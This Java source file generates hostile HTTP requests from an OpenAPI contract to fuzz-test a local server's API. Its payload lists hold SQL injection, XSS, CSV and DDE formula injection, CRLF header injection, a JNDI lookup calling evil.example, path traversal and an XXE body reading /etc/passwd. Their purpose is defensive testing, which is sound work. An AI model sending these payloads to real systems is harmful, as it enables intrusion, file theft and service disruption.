package org.mediaartscities.local.server;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import org.mediaartscities.shared.json.Json;

/**
 * Hostile requests generated from openapi.yaml for one operation: a valid request (the contract's example body, the
 * fixture's real ids and tokens) with one thing made hostile: one parameter, one body field, or the body as a whole.
 * The hostile values are those issue #15 lists: missing, wrong type, empty, ten times the limit; right-to-left marks,
 * emoji, NUL, lone surrogates; SQL, HTML, CSV formula and CRLF injections; huge numbers and deep nesting; malformed
 * JSON, the wrong content type and a body over 256 KB. A seeded {@link Random} chooses among them and mixes in random
 * text, so that a seed and an operation give the same requests again.
 */
final class HostileRequests {

  /** Stands for "leave it out". */
  static final JsonNode MISSING = JsonNodeFactory.instance.missingNode();

  /** JSON as a careless client might send it: every non-ASCII character escaped, so lone surrogates survive. */
  private static final ObjectMapper ESCAPING = Json.MAPPER.copy()
      .enable(JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature());
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  static final List<String> UNICODE = List.of("\u200F\u05E9\u05DC\u05D5\u05DD", "abc\u202Edcba", "\u2066x\u2069",
      "\uD83C\uDFA8\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08", "a\u0000b", "\u0000", "\uD800", "x\uDC00y",
      "e\u0301\u0301\u0301",
      "\uFEFFbom", "\u00A0\u2028\u2029", "\uFFFF", "\t\u000B\f");
  static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "Robert'); DROP TABLE items;--",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"https://evil.example\",\"x\")",
      "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "line\r\nSet-Cookie: stolen=1", "a\rb\nc",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}", "../../etc/passwd", "%00%0d%0a", "javascript:alert(1)");
  static final List<String> NUMBERS_AS_TEXT = List.of("-1", "0", "1.5", "1e400", "99999999999999999999999999",
      "-9223372036854775809", "NaN", "Infinity", "0x10", " 7 ");
  /** Plausible starts that random noise follows. */
  private static final List<String> PREFIXES = List.of("", "lyon", "en", "a@example.org", "2027-01-01T00:00:00Z");

  /** Where the hostile value goes. */
  enum Place { PATH, QUERY, HEADER, FIELD, BODY }

  /** One request, ready to send, and what was made hostile in it. */
  record HostileCase(Place place, String target, String what, String method, String path,
      Map<String, String> query, Map<String, String> headers, String contentType, byte[] body) {

    String uri() {
      var uri = new StringBuilder(path);
      String separator = "?";
      for (var parameter : query.entrySet()) {
        uri.append(separator).append(encode(parameter.getKey())).append('=').append(encode(parameter.getValue()));
        separator = "&";
      }
      return uri.toString();
    }

    @Override
    public String toString() {
      String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
      if (shown.length() > 300) {
        shown = shown.substring(0, 300) + "... (" + body.length + " bytes)";
      }
      var shownHeaders = new LinkedHashMap<>(headers);
      shownHeaders.replaceAll((name, value) -> name.equalsIgnoreCase("authorization") || name.startsWith("X-")
          ? "<token>" : value);
      return place + " " + target + " " + what + ": " + method + " " + uri() + " " + shownHeaders
          + (contentType == null ? "" : " [" + contentType + "] ") + shown;
    }
  }

  /** The real values a request needs for an operation: path parameters, required headers, credentials. */
  interface Fixture {
    String pathParameter(ApiContract.Operation operation, String name);

    Map<String, String> credentials(ApiContract.Operation operation);

    /** Headers the operation requires, e.g. the current If-Match. */
    Map<String, String> requiredHeaders(ApiContract.Operation operation, String path);
  }

  private record Parameter(String name, String in, JsonNode schema, boolean required) {}

  private final ApiContract contract;

  HostileRequests(ApiContract contract) {
    this.contract = contract;
  }

  /** One hostile case of {@code operation}, drawn with {@code random}: the same random state gives the same case. */
  HostileCase next(ApiContract.Operation operation, Fixture fixture, Random random) {
    return build(operation, fixture, mutations(operation).from(random));
  }

  /** A value drawn from a random source; the choices below nest them, each choice as likely as the others. */
  @FunctionalInterface
  private interface Draw<T> {
    T from(Random random);

    static <T> Draw<T> just(T value) {
      return random -> value;
    }

    static <T> Draw<T> of(List<? extends T> values) {
      return random -> values.get(random.nextInt(values.size()));
    }

    static <T> Draw<T> oneOf(List<Draw<T>> choices) {
      return random -> choices.get(random.nextInt(choices.size())).from(random);
    }

    default <R> Draw<R> map(Function<? super T, ? extends R> mapper) {
      return random -> mapper.apply(from(random));
    }
  }

  private record Mutation(Place place, String target, String what, JsonNode value, BodyCase body) {}

  /** The operation's valid request, nothing hostile in it: what the fixture's state makes of it. */
  HostileCase valid(ApiContract.Operation operation, Fixture fixture) {
    return build(operation, fixture, new Mutation(null, "", "nothing hostile", MISSING, null));
  }

  /** A hostile body as a whole: its bytes and the content type it is sent with. */
  record BodyCase(String what, String contentType, byte[] bytes) {}

  private Draw<Mutation> mutations(ApiContract.Operation operation) {
    var choices = new ArrayList<Draw<Mutation>>();
    for (Parameter parameter : parameters(operation)) {
      Place place = switch (parameter.in()) {
        case "path" -> Place.PATH;
        case "query" -> Place.QUERY;
        default -> Place.HEADER;
      };
      choices.add(hostile(parameter.schema(), true)
          .map(v -> new Mutation(place, parameter.name(), describe(v), v, null)));
    }
    JsonNode bodySchema = bodySchema(operation);
    if (bodySchema != null) {
      properties(bodySchema).forEach((name, schema) -> choices.add(hostile(schema, false)
          .map(v -> new Mutation(Place.FIELD, name, describe(v), v, null))));
      choices.add(bodies().map(b -> new Mutation(Place.BODY, "body", b.what(), null, b)));
    }
    if (choices.isEmpty()) {
      // Nothing to make hostile but the request itself: a body where none is expected.
      choices.add(bodies().map(b -> new Mutation(Place.BODY, "body", b.what(), null, b)));
    }
    return Draw.oneOf(choices);
  }

  private HostileCase build(ApiContract.Operation operation, Fixture fixture, Mutation mutation) {
    String path = operation.path();
    var query = new LinkedHashMap<String, String>();
    var headers = new LinkedHashMap<String, String>();
    for (Parameter parameter : parameters(operation)) {
      boolean hostile = mutation.place() != Place.FIELD && mutation.place() != Place.BODY
          && mutation.target().equals(parameter.name());
      if (parameter.in().equals("path")) {
        String value = hostile ? (mutation.value().isMissingNode() ? "" : text(mutation.value()))
            : fixture.pathParameter(operation, parameter.name());
        path = path.replace("{" + parameter.name() + "}", encode(value).replace("+", "%20"));
      } else if (hostile && !mutation.value().isMissingNode()) {
        (parameter.in().equals("query") ? query : headers).put(parameter.name(), text(mutation.value()));
      }
    }
    headers.putAll(fixture.credentials(operation));
    fixture.requiredHeaders(operation, path).forEach((name, value) -> {
      boolean hostile = mutation.place() == Place.HEADER && mutation.target().equalsIgnoreCase(name);
      if (!hostile) {
        headers.put(name, value);
      }
    });
    String contentType = null;
    byte[] body = null;
    JsonNode example = bodyExample(operation);
    if (mutation.place() == Place.BODY) {
      contentType = mutation.body().contentType();
      body = mutation.body().bytes();
    } else if (example != null) {
      contentType = bodyMediaType(operation);
      JsonNode value = example.deepCopy();
      if (mutation.place() == Place.FIELD && value instanceof ObjectNode object) {
        if (mutation.value().isMissingNode()) {
          object.remove(mutation.target());
        } else {
          object.set(mutation.target(), mutation.value());
        }
      }
      body = contentType.equals("application/x-www-form-urlencoded") ? form(value) : json(value);
    }
    return new HostileCase(mutation.place(), mutation.target(), mutation.what(), operation.method()
        .toUpperCase(Locale.ROOT), path, query, headers, contentType, body);
  }

  /** The operation's parameters, {@code $ref}s resolved; security headers are the fixture's. */
  private List<Parameter> parameters(ApiContract.Operation operation) {
    var parameters = new ArrayList<Parameter>();
    for (JsonNode parameter : operation.definition().path("parameters")) {
      JsonNode resolved = resolve(parameter);
      parameters.add(new Parameter(resolved.get("name").asText(), resolved.get("in").asText(),
          resolve(resolved.path("schema")), resolved.path("required").asBoolean(false)));
    }
    return parameters;
  }

  JsonNode bodyExample(ApiContract.Operation operation) {
    JsonNode content = operation.definition().path("requestBody").path("content");
    return content.isEmpty() ? null : content.elements().next().get("example");
  }

  private String bodyMediaType(ApiContract.Operation operation) {
    return operation.definition().path("requestBody").path("content").fieldNames().next();
  }

  private JsonNode bodySchema(ApiContract.Operation operation) {
    JsonNode content = operation.definition().path("requestBody").path("content");
    return content.isEmpty() ? null : resolve(content.elements().next().path("schema"));
  }

  /** The top-level properties of an object schema, through {@code $ref} and {@code allOf}. */
  private Map<String, JsonNode> properties(JsonNode schema) {
    var properties = new LinkedHashMap<String, JsonNode>();
    JsonNode resolved = resolve(schema);
    resolved.path("properties").properties().forEach(e -> properties.put(e.getKey(), resolve(e.getValue())));
    for (JsonNode part : resolved.path("allOf")) {
      properties.putAll(properties(part));
    }
    return properties;
  }

  private JsonNode resolve(JsonNode node) {
    JsonNode current = node;
    while (current.has("$ref")) {
      current = contract.document().at(current.get("$ref").asText().substring(1));
    }
    return current;
  }

  /** Hostile values for a value of this schema; {@code asText} for parameters, which travel as text. */
  private Draw<JsonNode> hostile(JsonNode schema, boolean asText) {
    String type = type(schema);
    long limit = limit(schema, type);
    var choices = new ArrayList<Draw<JsonNode>>();
    choices.add(Draw.just(MISSING));
    choices.add(Draw.of(UNICODE).map(NODES::textNode));
    choices.add(Draw.of(INJECTIONS).map(NODES::textNode));
    choices.add(Draw.just(NODES.textNode("")));
    choices.add(random -> NODES.textNode("x".repeat((int) Math.min(limit * 10, 300_000))));
    // Random text of every plane, controls and surrogates included, alone or after a plausible value.
    choices.add(random -> NODES.textNode(PREFIXES.get(random.nextInt(PREFIXES.size())) + noise(random, 12)));
    if (asText) {
      choices.add(Draw.of(NUMBERS_AS_TEXT).map(NODES::textNode));
    } else {
      choices.add(Draw.<JsonNode>of(List.of(NODES.numberNode(new BigDecimal("1e308")), NODES.numberNode(
          new BigDecimal("-1e400")), NODES.numberNode(new BigInteger("99999999999999999999999999999")),
          NODES.numberNode(-1), NODES.numberNode(0), NODES.numberNode(2147483648L), NODES.numberNode(1.5))));
      choices.add(Draw.<JsonNode>of(List.of(NODES.booleanNode(true), NODES.nullNode(), NODES.objectNode(),
          NODES.arrayNode(), NODES.objectNode().put("$ne", ""), NODES.arrayNode().add("x").add(1))));
      choices.add(random -> nested(50 + random.nextInt(3000 - 50 + 1)));
      if (type.equals("array")) {
        choices.add(random -> repeated(Math.min(limit * 10, 5000)));
      }
      if (type.equals("object")) {
        choices.add(random -> manyKeys((int) Math.min(limit * 10, 5000)));
      }
    }
    return Draw.oneOf(choices);
  }

  /**
   * Up to {@code maxLength} UTF-16 units of anything: printable ASCII, controls, any BMP unit (lone surrogates
   * included) or a code point beyond the BMP (which may take the text one unit past the limit).
   */
  static String noise(Random random, int maxLength) {
    int length = random.nextInt(maxLength + 1);
    var text = new StringBuilder(length + 1);
    while (text.length() < length) {
      switch (random.nextInt(4)) {
        case 0 -> text.append((char) (0x20 + random.nextInt(0x7F - 0x20)));
        case 1 -> text.append((char) (random.nextBoolean() ? random.nextInt(0x20) : 0x7F + random.nextInt(0x21)));
        case 2 -> text.append((char) random.nextInt(0x10000));
        default -> text.appendCodePoint(0x10000 + random.nextInt(0x110000 - 0x10000));
      }
    }
    return text.toString();
  }

  private static String type(JsonNode schema) {
    JsonNode type = schema.path("type");
    if (type.isArray()) {
      for (JsonNode t : type) {
        if (!t.asText().equals("null")) {
          return t.asText();
        }
      }
    }
    return type.isTextual() ? type.asText() : schema.has("properties") ? "object" : "string";
  }

  /** The schema's own limit, or one well past what any field of this API takes. */
  private static long limit(JsonNode schema, String type) {
    return switch (type) {
      case "integer", "number" -> schema.path("maximum").asLong(1_000_000);
      case "array" -> schema.path("maxItems").asLong(100);
      case "object" -> schema.path("maxProperties").asLong(50);
      default -> schema.path("maxLength").asLong(2_000);
    };
  }

  /** Hostile bodies as a whole, the same for every operation. */
  private static final List<BodyCase> BODIES = List.of(
      new BodyCase("malformed JSON", "application/json", bytes("{\"translations\": {")),
      new BodyCase("single quotes", "application/json", bytes("{'name': 'x'}")),
      new BodyCase("trailing garbage", "application/json", bytes("{} {}")),
      new BodyCase("duplicate keys", "application/json", bytes("{\"email\":\"a@example.org\",\"email\":\"b\"}")),
      new BodyCase("byte order mark", "application/json", bytes("\uFEFF{}")),
      new BodyCase("invalid UTF-8", "application/json", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3,
          (byte) 0x28, '"', '}'}),
      new BodyCase("a JSON array", "application/json", bytes("[]")),
      new BodyCase("a JSON string", "application/json", bytes("\"x\"")),
      new BodyCase("a JSON number", "application/json", bytes("1e999")),
      new BodyCase("JSON null", "application/json", bytes("null")),
      new BodyCase("empty", "application/json", new byte[0]),
      new BodyCase("deeply nested", "application/json", bytes("[".repeat(100_000))),
      new BodyCase("deeply nested object", "application/json", bytes("{\"a\":".repeat(5_000) + "1"
          + "}".repeat(5_000))),
      new BodyCase("over 256 KB", "application/json", bytes("{\"x\":\"" + "a".repeat(300 * 1024) + "\"}")),
      new BodyCase("the wrong content type", "text/plain", bytes("{}")),
      new BodyCase("XML", "application/xml", bytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM "
          + "\"file:///etc/passwd\">]><a>&x;</a>")),
      new BodyCase("a form", "application/x-www-form-urlencoded", bytes("name=x&email=a%40example.org")),
      new BodyCase("multipart", "multipart/form-data; boundary=b", bytes("--b\r\nContent-Disposition: form-data; "
          + "name=\"a\"\r\n\r\nx\r\n--b--\r\n")));

  private static Draw<BodyCase> bodies() {
    return Draw.of(BODIES);
  }

  /** Arrays and objects {@code depth} deep, as raw JSON: Jackson itself refuses to write past 1,000 levels. */
  private static JsonNode nested(int depth) {
    var open = new StringBuilder();
    var close = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      open.append(i % 2 == 0 ? "[" : "{\"a\":");
      close.append(i % 2 == 0 ? "]" : "}");
    }
    return NODES.rawValueNode(new RawValue(open + "\"deep\"" + close.reverse()));
  }

  private static JsonNode repeated(long count) {
    var array = NODES.arrayNode();
    for (long i = 0; i < count; i++) {
      array.add("x" + i);
    }
    return array;
  }

  private static JsonNode manyKeys(int count) {
    var object = NODES.objectNode();
    for (int i = 0; i < count; i++) {
      object.put("k" + i, "x");
    }
    return object;
  }

  private static String describe(JsonNode value) {
    if (value.isMissingNode()) {
      return "missing";
    }
    String text = value.toString();
    return text.length() > 60 ? text.substring(0, 60) + "... (" + text.length() + " chars)" : text;
  }

  private static String text(JsonNode value) {
    return value.isTextual() ? value.asText() : value.toString();
  }

  private static byte[] json(JsonNode value) {
    try {
      return ESCAPING.writeValueAsBytes(value);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] form(JsonNode value) {
    var form = new StringBuilder();
    value.properties().forEach(e -> form.append(form.isEmpty() ? "" : "&").append(encode(e.getKey())).append('=')
        .append(encode(text(e.getValue()))));
    return bytes(form.toString());
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }
}
